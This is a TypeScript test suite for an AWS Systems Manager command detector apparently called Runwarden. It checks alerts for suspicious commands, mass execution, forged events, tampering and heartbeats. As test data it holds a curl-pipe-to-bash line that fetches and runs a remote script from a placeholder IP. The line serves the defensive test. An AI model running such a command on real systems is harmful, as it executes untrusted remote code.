import {
  heartbeatEvent,
  MACHINE,
  machines,
  nativeCommandEvent,
  processEvent,
  sendCommandEvent,
  selftestEvent,
  startSessionEvent,
  updateFunctionEvent,
} from '../../support/aws-events'
import { startAwsWorld, type AwsWorld } from '../../support/aws-world'
import { expectMail } from './expect-mail'

const DOWNLOAD = 'curl -s http://203.0.113.9/setup.sh | bash'

let world: AwsWorld

beforeAll(async () => {
  world = await startAwsWorld({
    settings: { RUNWARDEN_OWN_RESOURCES: '["*Runwarden-prod-*"]', RUNWARDEN_DEPLOYERS: '["*role/Upgrade"]' },
  })
})

afterAll(() => world.stop())

afterEach(async () => {
  await world.clear()
  await world.alerts.read()
  world.ssm.state.commands.length = 0
})

const knowText = (commandId: string, text: string): void =>
  void world.ssm.state.commands.push({
    CommandId: commandId,
    DocumentName: 'AWS-RunShellScript',
    Parameters: { commands: [text] },
  })

const id = (number: number): string => `00000000-0000-0000-0000-0000000000${String(number).padStart(2, '0')}`

describe('a story on the bus', () => {
  it('becomes exactly these mails', async () => {
    knowText(id(11), DOWNLOAD)
    knowText(id(12), 'systemctl restart nginx')
    await world.deliver(sendCommandEvent({ eventId: id(1), commandId: id(11) }))
    await world.deliver(
      sendCommandEvent({
        eventId: id(2),
        commandId: id(12),
        time: '2026-03-02T10:04:00Z',
        instances: machines(4, 'a'),
      }),
    )
    const mails = await world.alerts.read({ atLeast: 2 })
    expect(mails).toHaveLength(2)
    expectMail('suspicious-command', mails[0])
    expectMail('mass-execution', mails[1])
  })

  it('is reported once, however often its events come', async () => {
    const call = sendCommandEvent({ commandId: id(13) })
    knowText(id(13), DOWNLOAD)
    const further = await world.another()
    for (const container of [world.lambda, world.lambda, further, world.lambda])
      expect(await container.invoke(call)).toMatchObject({ ok: true })
    expect(await world.alerts.read({ atLeast: 1 })).toHaveLength(1)
  })

  it('resolves tags to machines, and says how many there are', async () => {
    world.ssm.state.instances.push(...machines(60, 'b').map((InstanceId) => ({ InstanceId, Tags: { Role: 'web' } })))
    await world.deliver(
      sendCommandEvent({ eventId: id(3), commandId: id(14), targets: [{ key: 'tag:Role', values: ['web'] }] }),
    )
    expectMail('machines-by-tag', (await world.alerts.read({ atLeast: 1 }))[0])
  })
})

describe("Systems Manager's own event of a command", () => {
  it('that came before the call gives it its text', async () => {
    await world.deliver(nativeCommandEvent(id(21), [DOWNLOAD]))
    await world.deliver(sendCommandEvent({ commandId: id(21) }))
    const [mail, ...more] = await world.alerts.read({ atLeast: 1 })
    expect(more).toEqual([])
    expect(mail?.subject).toContain('Suspicious Command')
  })

  it('that comes after the call has it reported again, under the same alert id', async () => {
    await world.deliver(sendCommandEvent({ eventId: id(4), commandId: id(22) }))
    await world.deliver(nativeCommandEvent(id(22), [DOWNLOAD]))
    const mails = await world.alerts.read({ atLeast: 2 })
    expect(mails.map(({ subject }) => subject)).toEqual([
      expect.stringContaining('First Seen Caller'),
      expect.stringContaining('[UPDATE]'),
    ])
    expect(new Set(mails.map(alertIdIn)).size).toBe(1)
    expectMail('text-came-later', mails[1])
  })

  it('is judged alone by the heartbeat when no call came', async () => {
    await world.deliver({ ...nativeCommandEvent(id(23), [DOWNLOAD]), id: id(7) })
    await world.deliver(heartbeatEvent())
    expect(await world.alerts.read()).toEqual([])
    await world.hasten()
    await world.deliver(heartbeatEvent())
    expectMail('without-a-call', (await world.alerts.read({ atLeast: 1 }))[0])
  })
})

describe('a process on the machine', () => {
  it('confirms the command that started it', async () => {
    await world.deliver(sendCommandEvent({ eventId: id(5), commandId: id(31) }))
    await world.deliver(processEvent(id(31)))
    const mails = await world.alerts.read({ atLeast: 2 })
    expect(mails.map(({ attributes }) => [attributes['kind'], attributes['severity']])).toEqual([
      ['alert', 'medium'],
      ['update', 'high'],
    ])
    expect(mails[1]?.body).toContain('Run Command Confirmed')
  })

  it('may not pretend to be a call: what is no process event is put aside', async () => {
    const forged = { ...processEvent(id(32)), detail: sendCommandEvent({ role: 'Forged' }).detail }
    await world.deliver(forged)
    expect(await world.alerts.read()).toEqual([])
    const [message = ''] = await world.peek(world.queues.quarantine)
    expect(JSON.parse(message)).toMatchObject({
      schema: 'runwarden.quarantined/1',
      reason: expect.stringContaining('no process event'),
      body: forged,
    })
  })
})

describe('a change of Runwarden itself', () => {
  it('is reported at once, no matter who made it', async () => {
    await world.deliver(updateFunctionEvent('Runwarden-prod-detector', { eventId: id(6), role: 'Admin' }))
    expectMail('tampering', (await world.alerts.read({ atLeast: 1 }))[0])
  })

  it('is reported every time, whatever was sent before', async () => {
    for (let times = 0; times < 3; times++)
      await world.deliver(updateFunctionEvent('Runwarden-prod-detector', { role: 'Admin' }))
    expect(await world.alerts.read({ atLeast: 3 })).toHaveLength(3)
  })

  it('by a named deployer is one notice for the whole upgrade', async () => {
    for (let times = 0; times < 12; times++)
      await world.deliver(updateFunctionEvent(`Runwarden-prod-part-${times}`, { role: 'Upgrade' }))
    const mails = await world.alerts.read({ atLeast: 1 })
    expect(mails.map(({ attributes }) => attributes['severity'])).toEqual(['low'])
  })

  it("is nobody's business when somebody changes something else", async () => {
    await world.deliver(updateFunctionEvent('billing', { role: 'Admin' }))
    expect(await world.alerts.read()).toEqual([])
  })
})

describe('the heartbeat', () => {
  it('counts itself, and measures the trail', async () => {
    world.ssm.state.trails.push({
      Name: 'main',
      TrailARN: 'arn:aws:cloudtrail:us-east-1:123456789012:trail/main',
      HomeRegion: 'us-east-1',
      IsMultiRegionTrail: true,
      IsLogging: true,
    })
    await world.deliver(heartbeatEvent())
    const line = world.logs().findLast(({ kind }) => kind === 'heartbeat')
    expect(line).toMatchObject({ message: 'run', FunctionName: 'runwarden', Heartbeats: 1, TrailLogging: [1] })
    expect(line?.['_aws']).toMatchObject({
      CloudWatchMetrics: [{ Namespace: 'Runwarden', Dimensions: [['FunctionName']] }],
    })
  })
})

describe('the self test', () => {
  it('takes the way of a real alert, and leaves a report of its hops', async () => {
    const mark = 'f'.repeat(32)
    await world.deliver(selftestEvent(mark))
    const [mail] = await world.alerts.read({ atLeast: 1 })
    expect([mail?.attributes['kind'], alertIdIn(mail!)]).toEqual(['test', mark])
    const items = await world.items()
    expect(items.map(({ pk }) => pk?.S)).toEqual(expect.arrayContaining([`alert/${mark}`, `selftest/${mark}`]))
  })
})

describe('every run', () => {
  it('writes one line with what it did', async () => {
    const before = world.logs().length
    await world.deliver(startSessionEvent(MACHINE))
    const lines = world.logs().slice(before)
    expect(lines).toHaveLength(1)
    expect(lines[0]).toMatchObject({
      level: 'INFO',
      message: 'run',
      kind: 'event',
      RecordsReceived: 1,
      ActivitiesEvaluated: 1,
      AlertsSent: 1,
      durationMs: expect.any(Number),
      DetectionLatencySeconds: [expect.any(Number)],
    })
  })
})

const alertIdIn = ({ body }: { readonly body: string }): string | undefined => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[1]
